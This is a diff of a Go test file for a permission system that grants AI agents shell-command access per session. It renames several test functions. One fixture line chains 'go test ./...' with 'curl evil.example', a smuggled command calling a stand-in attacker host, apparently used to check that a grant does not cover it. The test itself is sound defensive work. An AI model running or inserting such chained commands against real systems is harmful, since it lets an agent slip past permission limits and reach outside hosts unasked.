@@ -11,7 +11,7 @@ import (
 	"github.com/nodbus/nod/test/internal/rig"
 )
 
-func TestWhatIsAllowedForASessionIsAllowedThereAndReachesNoFurther(t *testing.T) {
+func TestASessionGrantCoversOnlyItsSessionAndCommand(t *testing.T) {
 	t.Parallel()
 	env := rig.Start(t, func(s *rig.Setup) { s.Engines = 2 })
 	ada := env.Agent("ada")
@@ -33,7 +33,7 @@ func TestWhatIsAllowedForASessionIsAllowedThereAndReachesNoFurther(t *testing.T)
 	env.Equal(schemas.Denied, ada.Gets(rig.Shell("S", "", "npm test")).Outcome, "a rule that denies overrides a grant")
 }
 
-func TestTheWiderReachIsTheOneThatWasShown(t *testing.T) {
+func TestTheWiderRuleIsTheOneThatWasShown(t *testing.T) {
 	t.Parallel()
 	env := rig.Start(t)
 	ada, ann := env.Agent("ada"), env.Ann()
@@ -50,7 +50,7 @@ func TestTheWiderReachIsTheOneThatWasShown(t *testing.T) {
 	ada.Asks(rig.Shell("another", "", "go test ./... && curl evil.example")).Drop()
 }
 
-func TestWhatNodCannotBoundIsAllowedOnceAlone(t *testing.T) {
+func TestACallWithoutASafeRuleIsAllowedOnlyOnce(t *testing.T) {
 	t.Parallel()
 	env := rig.Start(t)
 	ada, ann := env.Agent("ada"), env.Ann()
@@ -74,7 +74,7 @@ func TestWhatNodCannotBoundIsAllowedOnceAlone(t *testing.T) {
 	env.Empty(grants)
 }
 
-func TestAGrantEndsByItself(t *testing.T) {
+func TestAGrantExpires(t *testing.T) {
 	t.Parallel()
 	env := rig.Start(t)
 	ada := env.Agent("ada")
@@ -176,7 +176,7 @@ func TestTheGrantIsStoredBeforeItsDecisionIsReturned(t *testing.T) {
 	}
 }
 
-func TestGrantsMadeAtOnceLoseNone(t *testing.T) {
+func TestConcurrentGrantsAreAllStored(t *testing.T) {
 	t.Parallel()
 	env := rig.Start(t, func(s *rig.Setup) { s.Engines = 2 })
 	ada, ann := env.Agent("ada"), env.Ann()
